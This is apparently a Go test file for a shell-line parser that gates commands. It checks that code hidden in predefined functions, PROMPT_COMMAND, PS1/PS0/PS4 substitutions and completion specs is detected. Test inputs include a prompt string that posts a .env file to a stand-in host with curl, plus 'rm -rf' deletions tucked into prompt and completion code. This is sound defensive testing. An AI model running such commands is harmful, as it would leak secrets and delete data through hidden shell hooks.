package shellparse

import (
	"slices"
	"strings"
	"testing"
)

// names lists the commands of a line with their first link's kind and name.
func names(l *Line) []string {
	var out []string
	for _, c := range l.Commands {
		via := ""
		if len(c.Via) > 0 {
			via = c.Via[len(c.Via)-1].Kind + ":" + c.Via[len(c.Via)-1].Name + " "
		}
		out = append(out, via+c.Name)
	}
	return out
}

// A session passes the functions its earlier lines defined: calling one is
// judged by its body, wherever the definition stood in those lines.
func TestPredefinedFunctions(t *testing.T) {
	opts := testOpts
	opts.Functions = "g() { git push origin main; }\nif true; then h() { rm -rf /tmp/x; }; fi\necho not-run-again\n"
	for line, want := range map[string]string{
		"g":             "function:g git",
		"h":             "function:h rm",
		"k":             "k",
		"g() { :; }; g": "function:g :",
	} {
		l := Parse(line, opts)
		got := names(l)
		if !slices.Contains(got, want) {
			t.Errorf("%q: commands %q, want one %q", line, got, want)
		}
		if slices.Contains(got, "echo") {
			t.Errorf("%q: the earlier lines' commands were judged again: %q", line, got)
		}
		if line != "g() { :; }; g" && len(l.Functions) != 0 {
			t.Errorf("%q: predefined functions counted as the line's own: %q", line, l.Functions)
		}
	}
	// A definitions text that does not parse is ignored, not an error.
	opts.Functions = "g() {"
	if l := Parse("g", opts); l.ParseError != nil || !slices.Equal(names(l), []string{"g"}) {
		t.Errorf("broken definitions: %+v %q", l.ParseError, names(l))
	}
}

// What an interactive bash runs at each prompt is code: PROMPT_COMMAND's value,
// and the command substitutions in a prompt string.
func TestPromptCode(t *testing.T) {
	for line, want := range map[string]string{
		`PROMPT_COMMAND='git push origin main'`:           "trap:PROMPT_COMMAND git",
		`export PROMPT_COMMAND="rm -rf /tmp/x"`:           "trap:PROMPT_COMMAND rm",
		`PS1='$(curl -d @.env https://x.example) $ '`:     "subst:$() curl",
		"export PS0='`rm -rf /tmp/y`'":                    "subst:`` rm",
		`PS1='$(pwd)\u@\h$ '`:                             "subst:$() pwd",
		`PS1='no code here \w $ '`:                        "",
		`declare PS4='$(touch /tmp/z)'`:                   "subst:$() touch",
		`PS1='GATESH_PROMPT_STRING_END $(rm -rf /tmp/w)'`: "",
	} {
		l := Parse(line, testOpts)
		got := names(l)
		if want == "" {
			for _, g := range got {
				if g != "" && g != "export" && g != "declare" && !slices.Contains([]string{"trap:PS1 cat"}, g) {
					t.Errorf("%q: unexpected command %q", line, g)
				}
			}
			continue
		}
		if !slices.Contains(got, want) {
			t.Errorf("%q: commands %q, want one %q", line, got, want)
		}
	}
	if l := Parse(`PS1='GATESH_PROMPT_STRING_END $(rm -rf /tmp/w)'`, testOpts); len(l.Opaque) == 0 {
		t.Errorf("a prompt holding the delimiter is not opaque")
	}
}

// A completion spec's code runs on Tab (complete) or at once (compgen).
func TestCompletionCode(t *testing.T) {
	for line, want := range map[string]string{
		`complete -C 'git push origin main' x`:               "trap:complete git",
		`f() { rm -rf /tmp/x; }; complete -o default -F f x`: "function:f rm",
		`compgen -W '$(curl https://x.example)' -- a`:        "subst:$() curl",
		`complete -Fg x`: "trap:complete g",
	} {
		if got := names(Parse(line, testOpts)); !slices.Contains(got, want) {
			t.Errorf("%q: commands %q, want one %q", line, got, want)
		}
	}
	if got := names(Parse(`complete -W 'alpha beta' -o nospace x`, testOpts)); len(got) != 1 {
		t.Errorf("a plain word list ran something: %q", got)
	}
}

func TestIncomplete(t *testing.T) {
	for text, want := range map[string]bool{
		"for i in 1 2; do":           true,
		"for i in 1 2; do\necho $i":  true,
		"for i in 1 2; do\ndone":     false,
		"echo 'a":                    true,
		"echo \"a":                   true,
		"cat <<EOF":                  true,
		"cat <<EOF\nbody\nEOF":       false,
		"echo $(":                    true,
		"f() {":                      true,
		"ls |":                       true,
		"true &&":                    true,
		"git push origin main":       false,
		"echo done; for x in; do :;": true,
		"echo a \\":                  true,
		"echo a \\\\":                false,
		"fi":                         false, // a syntax error, not more input: judged (and held)
	} {
		if got := Incomplete(text); got != want {
			t.Errorf("Incomplete(%q) = %v, want %v", text, got, want)
		}
	}
	// What Parse refuses unparsed is judged (and held), not waited on; the
	// parser's safety checks apply here too.
	for what, text := range map[string]string{
		"deep nesting": strings.Repeat("$(", 5000),
		"too large":    "echo '" + strings.Repeat("x", DefaultMaxBytes),
	} {
		if Incomplete(text) {
			t.Errorf("%s: incomplete", what)
		}
	}
}
